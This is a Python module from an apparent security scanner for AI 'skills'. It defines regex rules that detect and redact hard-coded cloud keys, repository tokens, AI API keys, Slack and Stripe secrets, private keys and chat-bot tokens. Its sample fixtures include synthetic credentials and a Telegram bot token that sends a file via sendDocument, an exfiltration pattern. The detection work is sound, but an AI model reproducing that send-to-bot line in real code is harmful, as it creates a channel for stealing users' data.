"""Secrets: live credentials written into the skill itself.

A hard-coded key is mostly a hygiene problem (the author leaked it) and is
reported at medium weight. Evidence is always redacted to a prefix and a
length, so the report never repeats the secret. Placeholders and well-known
documentation examples are ignored. A chat-bot token next to a send call is
different: it is the author's channel for receiving the user's data.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from malwar.models import Category, Confidence, Severity
from malwar.parse.document import Document
from malwar.rules.base import Hit
from malwar.rules.credentials import SharedScanRule

_PLACEHOLDER = re.compile(
    r"x{4}|0{6}|1234|abcd|your|example|sample|dummy|fake|placeholder|redacted|changeme|replace|test|\.\.\.|<|\*{3}",
    re.IGNORECASE,
)
_TEST_PATH = re.compile(r"(?:^|/)(?:tests?|spec|__tests__|fixtures?|examples?|testdata)/|[._-](?:test|spec)\.", re.I)
_KNOWN_EXAMPLES = frozenset({"akiaiosfodnn7example", "akiai44qh8dhbexample"})


def redact(secret: str) -> str:
    """A prefix and a length: enough to find the secret, never enough to use it."""
    keep = 4 if len(secret) < 16 else 8
    return f"{secret[:keep]}…[{len(secret)} chars]"


def looks_real(secret: str, body: str | None = None) -> bool:
    """False for placeholders, documentation examples and low-variety strings."""
    body = body if body is not None else secret
    if secret.lower() in _KNOWN_EXAMPLES or _PLACEHOLDER.search(body):
        return False
    if len(set(body)) < max(6, min(len(body) // 3, 14)):
        return False
    # A real token mixes character classes; "abcdefghij..." or all-lower words do not.
    classes = sum(bool(re.search(p, body)) for p in (r"[a-z]", r"[A-Z]", r"[0-9]"))
    return classes >= 2


class _SecretRule(SharedScanRule):
    category = Category.SECRETS
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    # A leaked key is a leak wherever it sits, warnings included.
    context_sensitive = False
    body_group = "body"

    def check(self, doc: Document) -> Iterator[Hit]:
        seen: set[str] = set()
        for m in self.finditer(doc):
            secret = m.group(0)
            # Patterns with alternatives name one body group per alternative; take the one that matched.
            body = m.group(self.body_group) or next((g for g in m.groups() if g is not None), secret)
            if secret in seen or not looks_real(secret, body):
                continue
            seen.add(secret)
            lineno = doc.line_of(m.start())
            yield from self.report(doc, lineno, secret)

    def report(self, doc: Document, lineno: int, secret: str) -> Iterator[Hit]:
        if _TEST_PATH.search(doc.path):
            # Test suites carry fake tokens on purpose (redaction tests, fixtures).
            yield Hit(lineno, f"{self.title}: {redact(secret)}", severity=Severity.LOW, confidence=Confidence.LOW)
        else:
            yield Hit(lineno, f"{self.title}: {redact(secret)}")


class HardcodedCloudKey(_SecretRule):
    """A cloud access key written into the skill.

    What:
        AWS access key IDs (``AKIA`` / ``ASIA`` + 16 characters) and Google
        API keys (``AIza`` + 35 characters).

    Why:
        A published key can be used by anyone who reads the skill; an AWS key
        with its secret pays for someone else's mining rigs. The author has
        leaked it, and a skill that ships its own cloud key may also be
        logging the user's activity into the author's account.

    Example:
        ``aws_access_key_id = AKIA`` followed by sixteen real characters.

    Benign look-alike:
        AWS's documentation key ``AKIAIOSFODNN7EXAMPLE`` and placeholders such
        as ``AKIAXXXXXXXXXXXXXXXX`` are ignored.
    """

    id = "MW-0801"
    name = "hardcoded-cloud-key"
    title = "Hard-coded cloud access key"
    gates = ("akia", "asia", "aiza")
    pattern = re.compile(r"(?<![A-Za-z0-9])(?:(?:AKIA|ASIA)(?P<body>[A-Z0-9]{16})|AIza(?P<g>[0-9A-Za-z_-]{35}))(?![A-Za-z0-9])")

    def check(self, doc: Document) -> Iterator[Hit]:
        for m in self.finditer(doc):
            body = m.group("body") or m.group("g") or ""
            secret = m.group(0)
            if m.group("body") is not None:
                # AWS key IDs are upper-case and digits: require both, and variety.
                ok = (secret.lower() not in _KNOWN_EXAMPLES and not _PLACEHOLDER.search(secret)
                      and re.search(r"[0-9]", body) and re.search(r"[A-Z]", body) and len(set(body)) >= 8)
            else:
                ok = looks_real(secret, body)
            if ok:
                yield from self.report(doc, doc.line_of(m.start()), secret)

    matches = (
        "```ini\naws_access_key_id = AKIA4QW7RZ2M9KXB3T6N\n```\n",
        "const key = 'AIzaSyD8kQ2xV7mP1rT9wL4zN6bH3cJ5fG0aEuY';\n",
    )
    ignores = (
        "```ini\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n```\n",
        "Set `AWS_ACCESS_KEY_ID=AKIAXXXXXXXXXXXXXXXX` in your shell.\n",
    )


class HardcodedSourceControlToken(_SecretRule):
    """A GitHub, GitLab or npm token written into the skill.

    What:
        GitHub tokens (``ghp_``, ``gho_``, ``ghu_``, ``ghs_``, ``ghr_`` + 36
        characters, ``github_pat_`` fine-grained tokens), GitLab ``glpat-``
        tokens and npm ``npm_`` tokens.

    Why:
        Such a token can push code, publish packages and read private
        repositories; a leaked publish token is how supply-chain attacks
        start.

    Example:
        ``GITHUB_TOKEN=ghp_`` followed by 36 real characters.

    Benign look-alike:
        ``ghp_xxxxxxxx...`` and ``<your-token>`` placeholders in setup docs.
    """

    id = "MW-0802"
    name = "hardcoded-source-control-token"
    title = "Hard-coded source-control or registry token"
    gates = ("ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_", "glpat-")
    keywords = ("npm_",)
    pattern = re.compile(
        r"(?<![A-Za-z0-9_])(?:gh[pousr]_(?P<body>[A-Za-z0-9]{36})|github_pat_(?P<b2>[A-Za-z0-9_]{60,90})"
        r"|glpat-(?P<b3>[A-Za-z0-9_-]{20})|npm_(?P<b4>[A-Za-z0-9]{36}))(?![A-Za-z0-9_])"
    )

    matches = (
        "export GITHUB_TOKEN=ghp_7Hk2mQ9xZ4pL1vB8nR3tY6wC0dF5gJ2sA9eU\n",
        "```\n//npm.internal.example/:_authToken=npm_Q4w8E2r6T1y9U3i7O5p0A2s4D6f8G1h3J5k7\n```\n",
    )
    ignores = (
        "export GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n",
        "Create a token (it starts with `ghp_`) and paste it into `gh auth login`.\n",
    )


class HardcodedAiApiKey(_SecretRule):
    """An OpenAI, Anthropic or other model-provider key written into the skill.

    What:
        Anthropic ``sk-ant-`` keys, OpenAI ``sk-proj-`` / ``sk-`` keys and
        similar long ``sk-`` secrets.

    Why:
        Model keys are billed per use and are resold on underground markets;
        a skill that ships one has leaked it, and one that routes the user's
        prompts through the author's key can read them.

    Example:
        ``OPENAI_API_KEY=sk-proj-`` followed by a long random string.

    Benign look-alike:
        ``sk-...``, ``sk-xxxx`` and ``sk-your-key-here`` placeholders, and code
        that reads the key from the environment.
    """

    id = "MW-0803"
    name = "hardcoded-ai-api-key"
    title = "Hard-coded AI provider API key"
    keywords = ("sk-",)
    pattern = re.compile(r"(?<![A-Za-z0-9_-])sk-(?:ant-(?:api\d\d-)?|proj-|svcacct-)?(?P<body>[A-Za-z0-9_-]{32,200})")

    matches = (
        "client = Anthropic(api_key='sk-ant-api03-Zq8xL2mV9pR4tK7wN1bH6cJ3fG5dS0aQeYuIoPzXcVbNm')\n",
        "```bash\nexport OPENAI_API_KEY=sk-proj-4fG7hJ2kL9mN3pQ8rS1tV6wX0yZ5aB2cD7eF9gH1\n```\n",
    )
    ignores = (
        "export OPENAI_API_KEY=sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n",
        "Set `ANTHROPIC_API_KEY` (it looks like `sk-ant-...`) before running.\n",
    )


class HardcodedServiceToken(_SecretRule):
    """A Slack or Stripe live secret written into the skill.

    What:
        Slack bot, user and app tokens (``xoxb-``, ``xoxp-``, ``xoxa-``,
        ``xapp-``) and Stripe live secret or restricted keys (``sk_live_``,
        ``rk_live_``).

    Why:
        A Slack token reads and posts in the workspace it belongs to; a
        Stripe live key moves real money. Test-mode keys (``sk_test_``) are not
        reported.

    Example:
        ``STRIPE_KEY=sk_live_`` followed by a real secret.

    Benign look-alike:
        ``xoxb-your-token`` and ``sk_live_...`` placeholders, and Stripe test keys.
    """

    id = "MW-0804"
    name = "hardcoded-service-token"
    title = "Hard-coded Slack or Stripe secret"
    keywords = ("xox", "_live_")
    pattern = re.compile(
        r"(?<![A-Za-z0-9])(?:xox[bpas]-(?P<body>[0-9]{6,14}-[0-9A-Za-z-]{10,80})|xapp-(?P<b2>\d-[A-Za-z0-9-]{20,120})"
        r"|[sr]k_live_(?P<b3>[0-9A-Za-z]{20,120}))"
    )

    matches = (
        "SLACK_BOT_TOKEN=xoxb-2847193650-5839201746-Kq8Zr4Lx2Nc7Vb1Mk9Pw3Ty6\n",
        "stripe.api_key = 'sk_live_51Hq8ZrL4x2Nc7Vb1Mk9Pw3Ty6DfG0aS'\n",
    )
    ignores = (
        "stripe.api_key = 'sk_test_51Hq8ZrL4x2Nc7Vb1Mk9Pw3Ty6DfG0aS'\n",
        "SLACK_BOT_TOKEN=xoxb-your-bot-token\n",
    )


class EmbeddedPrivateKey(SharedScanRule):
    """A private key block written into the skill.

    What:
        A PEM ``-----BEGIN ... PRIVATE KEY-----`` block (RSA, EC, DSA,
        OpenSSH, PKCS#8, encrypted or PGP) followed by real key material.

    Why:
        Whoever reads the skill gets the key: a server login, a TLS identity
        or a signing key. A skill should never carry one.

    Example:
        A ``-----BEGIN OPENSSH PRIVATE KEY-----`` header followed by base64 lines.

    Benign look-alike:
        Docs that show the header with ``...`` or ``<your key>`` in place of the
        body; a block without real base64 material is ignored.
    """

    id = "MW-0805"
    name = "embedded-private-key"
    title = "Embedded private key"
    category = Category.SECRETS
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    keywords = ("private key-----",)
    context_sensitive = False
    pattern = re.compile(r"-----BEGIN (?:[A-Z0-9]{1,12} ){0,3}PRIVATE KEY(?: BLOCK)?-----", re.IGNORECASE)
    _MATERIAL = re.compile(r"^[\s\"'\\n]{0,8}[A-Za-z0-9+/=]{40,}")

    def check(self, doc: Document) -> Iterator[Hit]:
        for m in self.finditer(doc):
            lineno = doc.line_of(m.start())
            after = doc.view[m.end():m.end() + 400]
            # The body is on the next lines, or after a literal "\n" inside a string.
            body = after.replace("\\n", "\n")
            lines = [ln.strip().strip("\"',") for ln in body.split("\n")[:6]]
            material = [ln for ln in lines if re.fullmatch(r"[A-Za-z0-9+/=]{40,}", ln)]
            if material and looks_real(material[0]):
                yield Hit(lineno, f"{m.group(0)} … [{sum(len(x) for x in material)}+ chars of key material]")

    matches = (
        "```\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtz\n"
        "ZDI1NTE5AAAAIHq8Rk2mN4vL7pB1xT9wC3fG6dJ0sY5hE2aQ8uK1zM7rAAAAmHq8Rk2m\n"
        "-----END OPENSSH PRIVATE KEY-----\n```\n",
        "KEY = \"-----BEGIN RSA PRIVATE KEY-----\\nMIIEpAIBAAKCAQEAu7Jk2Lq9Zx4Nc8Vb1Mk3Pw6Ty0DfG5aS2hJ7eQ9rT4uW1\\n\"\n",
    )
    ignores = (
        "```\n-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----\n```\n",
        "Paste your key (it starts with `-----BEGIN OPENSSH PRIVATE KEY-----`) into the field.\n",
    )


_TELEGRAM = r"(?<![0-9])(?P<tg>[0-9]{8,10}:AA[A-Za-z0-9_-]{33})(?![A-Za-z0-9_-])"
_DISCORD = r"(?<![A-Za-z0-9_.-])(?P<dc>[MN][A-Za-z0-9]{23,25}\.[A-Za-z0-9_-]{6}\.[A-Za-z0-9_-]{27,38})(?![A-Za-z0-9_-])"
_SEND_NEAR = re.compile(
    r"sendmessage|senddocument|sendphoto|sendmediagroup|api\.telegram\.org|discord(?:app)?\.com/api|"
    r"requests\.post|\bcurl\b|fetch\(|https?\.request|webhook|\.send\(",
    re.IGNORECASE,
)


class HardcodedBotToken(SharedScanRule):
    """A Telegram or Discord bot token written into the skill.

    What:
        Telegram bot tokens (``123456789:AA`` + 33 characters) and Discord bot
        tokens (three dot-separated base64 parts).

    Why:
        A bot token is a ready-made exfiltration channel: whatever the skill
        sends through the author's bot lands in the author's chat, and the
        traffic looks like an ordinary API call. Next to a send call
        (``sendDocument``, a POST) it is reported at high weight; alone it is
        a leaked secret of medium weight.

    Example:
        ``requests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument", files=...)``
        with ``TOKEN`` hard-coded a line above.

    Benign look-alike:
        Bot tutorials with ``123456:ABC-DEF...`` placeholders, and bots that
        read their token from the environment.
    """

    id = "MW-0806"
    name = "hardcoded-bot-token"
    title = "Hard-coded chat-bot token"
    category = Category.SECRETS
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    keywords = (":aa", "discord")
    pattern = re.compile(f"{_TELEGRAM}|{_DISCORD}")

    def check(self, doc: Document) -> Iterator[Hit]:
        for m in self.finditer(doc):
            secret = m.group(0)
            tail = secret.split(":", 1)[1][2:] if m.group("tg") else secret
            if not looks_real(secret, tail):
                continue
            lineno = doc.line_of(m.start())
            if doc.is_markdown:
                near = "\n".join(doc.line(n) for n in range(max(1, lineno - 10), lineno + 11))
            else:
                near = doc.view  # a script: the token is used wherever the file sends
            evidence = f"{self.title}: {redact(secret)}"
            if _SEND_NEAR.search(near):
                yield Hit(lineno, evidence, severity=Severity.HIGH, confidence=Confidence.HIGH,
                          title="Hard-coded chat-bot token used to send data")
            else:
                yield Hit(lineno, evidence)

    matches = (
        "```python\nTOKEN = '7318452960:AAHq8ZrL4x2Nc7Vb1Mk9Pw3Ty6DfG0aS2hJ'\n"
        "requests.post(f'https://api.telegram.org/bot{TOKEN}/sendDocument', files={'document': f})\n```\n",
        "BOT = 'MTA4NzY1NDMyMTA5ODc2NTQz.GkQ8Zr.Lx2Nc7Vb1Mk9Pw3Ty6DfG0aS2hJ7eQ9rT4u'  # discord\n",
    )
    ignores = (
        "Your token looks like `123456789:AAxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx`.\n",
        "TOKEN = os.environ['TELEGRAM_BOT_TOKEN']\nrequests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage')\n",
    )
